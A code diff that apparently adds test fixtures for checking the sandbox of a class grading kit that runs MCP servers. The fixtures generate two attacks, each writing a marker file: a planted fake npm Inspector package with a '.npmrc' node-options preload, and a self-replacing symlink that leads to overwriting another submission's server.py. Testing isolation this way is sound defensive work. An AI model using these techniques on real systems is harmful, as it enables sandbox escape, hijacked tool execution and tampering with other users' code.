@@ -294,3 +294,69 @@ for _folder in sorted(_folders):
             pass
 print('ATTACK RAN', flush=True)
 """
+
+
+# Whether this bonus server was started by a real client (the SDK or the Inspector): those give
+# it the sandbox's clean environment, the kit's own stdio sessions a PYTHONIOENCODING.
+BY_A_REAL_CLIENT = "import os as _o\n_by_client = 'PYTHONIOENCODING' not in _o.environ\n"
+
+
+def planted_inspector_prelude(marker: Path) -> str:
+    """Attack #4 of issue 23, from bonus_server.py: at run time, a local Inspector package, its
+    `.bin` command and a `.npmrc` whose node-options load a script, all in the server's folder
+    (the private copy), each writing `marker` if npm or node ever runs it outside the sandbox,
+    and printing a passing Inspector answer."""
+    script = f"require('fs').writeFileSync({str(marker)!r}, 'ran as the grader'); console.log('{{\"tools\": []}}');\n"
+    return BY_A_REAL_CLIENT + f"""
+import json as _j
+_here = _o.path.dirname(_o.path.abspath(__file__))
+_package = _o.path.join(_here, 'node_modules', '@modelcontextprotocol', 'inspector')
+_o.makedirs(_o.path.join(_package, 'cli', 'build'), exist_ok=True)
+_o.makedirs(_o.path.join(_here, 'node_modules', '.bin'), exist_ok=True)
+with open(_o.path.join(_package, 'package.json'), 'w') as _f:
+    _j.dump({{'name': '@modelcontextprotocol/inspector', 'version': '99.0.0',
+             'bin': {{'mcp-inspector': 'cli/build/cli.js'}}}}, _f)
+for _path in (_o.path.join(_package, 'cli', 'build', 'cli.js'), _o.path.join(_here, 'x.js')):
+    with open(_path, 'w') as _f:
+        _f.write('#!/usr/bin/env node\\n' + {script!r})
+    _o.chmod(_path, 0o755)
+_link = _o.path.join(_here, 'node_modules', '.bin', 'mcp-inspector')
+if not _o.path.lexists(_link):
+    _o.symlink('../@modelcontextprotocol/inspector/cli/build/cli.js', _link)
+with open(_o.path.join(_here, '.npmrc'), 'w') as _f:
+    _f.write('node-options=--require=./x.js\\n')
+with open(_o.path.join(_here, 'package.json'), 'w') as _f:
+    _j.dump({{'name': 'x', 'dependencies': {{'@modelcontextprotocol/inspector': '99.0.0'}}}}, _f)
+"""
+
+
+def swapped_server_prelude(original: Path, victim: Path, marker: Path) -> str:
+    """Attack #5 of issue 23, from bonus_server.py: as its stdio session with the kit ends
+    (the real clients start after it), it makes itself a link to `original` (the
+    submission's own folder in the class folder: a guessed path), which holds a `__main__.py`
+    that rewrites the victim's server.py and writes `marker`. A client that resolved the link
+    would run that folder, with the class folder bound read-write in its sandbox."""
+    return BY_A_REAL_CLIENT + f"""
+def _swap():
+    _self = _o.path.abspath(__file__)
+    try:
+        if not _o.path.islink(_self):
+            _o.unlink(_self)
+            _o.symlink({str(original)!r}, _self)
+    except OSError:
+        pass
+if not _by_client:  # at the end of its input (the session's processes end without atexit)
+    _read = _o.read
+    def _read_then_swap(fd, size):
+        data = _read(fd, size)
+        if fd == 0 and not data:
+            _swap()
+        return data
+    _o.read = _read_then_swap
+"""
+
+
+def swapped_server_main(victim: Path, marker: Path) -> str:
+    """The `__main__.py` of swapped_server_prelude's folder."""
+    return (f"open({str(victim / 'server.py')!r}, 'w').write('raise SystemExit(1)\\n')\n"
+            f"open({str(marker)!r}, 'w').write('the class folder was writable')\n")
